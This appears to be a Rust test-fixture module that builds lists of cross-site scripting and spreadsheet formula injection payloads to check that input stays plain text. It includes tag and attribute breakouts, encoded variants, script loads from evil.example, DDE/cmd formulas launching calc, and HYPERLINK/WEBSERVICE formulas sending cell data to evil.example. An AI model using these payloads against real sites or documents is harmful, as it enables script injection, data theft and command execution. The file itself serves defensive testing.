//! What attackers write where a visitor writes, by the classes in which it is known: each way out of
//! a place with each thing to do there, plain and in disguise.

/// What ends the place that a text stands in.
const WAYS_OUT: [&str; 14] = [
    "",
    "\">",
    "'>",
    "`>",
    "</title>",
    "</textarea>",
    "</h1>",
    "</label>",
    "</legend>",
    "</option>",
    "-->",
    "]]>",
    "</script>",
    "</style>",
];

/// What runs a script, fetches from elsewhere or leads away, once it is an element.
const ELEMENTS: [&str; 22] = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert&lpar;1&rpar;</script>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<iframe src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=javascript:alert(1)><button>x",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import'//evil.example/x.css'</style>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
];

/// What becomes an attribute where a quotation mark gets through.
const ATTRIBUTES: [&str; 6] = [
    "onfocus=alert(1) autofocus",
    "onmouseover=alert(1)",
    "style=position:fixed;inset:0",
    "formaction=javascript:alert(1)",
    "href=javascript:alert(1)",
    "srcdoc=<script>alert(1)</script>",
];

/// Where an attribute's value may end.
const QUOTES: [&str; 5] = ["\" ", "' ", "` ", " ", "\"/"];

/// Scripts and markup: everything that must stay a text.
#[must_use]
pub fn scripts() -> Vec<String> {
    let mut payloads = Vec::new();
    for way_out in WAYS_OUT {
        for element in ELEMENTS {
            payloads.push(format!("{way_out}{element}"));
        }
    }
    for quote in QUOTES {
        for attribute in ATTRIBUTES {
            payloads.push(format!("x{quote}{attribute} x={}", quote.trim()));
        }
    }
    let disguised: [fn(&str) -> String; 7] = [
        |text| text.replace('<', "&lt;").replace('>', "&gt;"),
        |text| text.replace('<', "&#60;").replace('>', "&#x3e;"),
        |text| text.replace('<', "%3C").replace('>', "%3E"),
        |text| text.replace('<', "%253C").replace('>', "%253E"),
        |text| text.replace('<', "\\u003c").replace('>', "\\x3e"),
        |text| text.replace('<', "＜").replace('>', "＞"),
        |text| text.replace('<', "+ADw-").replace('>', "+AD4-"),
    ];
    for disguise in disguised {
        payloads.extend(ELEMENTS.iter().take(4).map(|element| disguise(element)));
    }
    payloads
}

/// What a spreadsheet computes, where a cell begins with it.
const FORMULAS: [&str; 14] = [
    "1+1",
    "cmd|'/C calc'!A0",
    "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!A0",
    "HYPERLINK(\"https://evil.example/?\"&A1,\"Error\")",
    "IMPORTXML(CONCAT(\"https://evil.example/?\",A1),\"//a\")",
    "IMAGE(\"https://evil.example/x.png\")",
    "WEBSERVICE(\"https://evil.example/\"&A1)",
    "DDE(\"cmd\";\"/C calc\";\"x\")",
    "SUM(1+1)*cmd|' /C calc'!A0",
    "2+5+cmd|' /C calc'!A0",
    "'file:///etc/passwd'#$passwd.A1",
    "INDIRECT(\"A1\")",
    "A1",
    "",
];

const SIGNS: [&str; 8] = ["=", "+", "-", "@", "＝", "＋", "－", "＠"];

/// What may stand before a formula without keeping a spreadsheet from it.
const BEFORE: [&str; 12] = [
    "", " ", "\t", "\n", "\r\n", "\"", "\"\"", ";", ",", "x;", "x\t", "x\n\"",
];

/// Formulas: everything that must stay a text in a file of values.
#[must_use]
pub fn formulas() -> Vec<String> {
    let mut payloads = Vec::new();
    for before in BEFORE {
        for sign in SIGNS {
            for formula in FORMULAS {
                payloads.push(format!("{before}{sign}{formula}"));
            }
        }
    }
    payloads
}

#[cfg(test)]
mod tests {
    use std::collections::HashSet;

    use super::{formulas, scripts};

    #[test]
    fn each_list_has_more_than_two_hundred_and_none_twice() {
        for list in [scripts(), formulas()] {
            let distinct: HashSet<&String> = list.iter().collect();
            assert_eq!(distinct.len(), list.len());
            assert!(distinct.len() > 200, "{}", distinct.len());
        }
    }
}
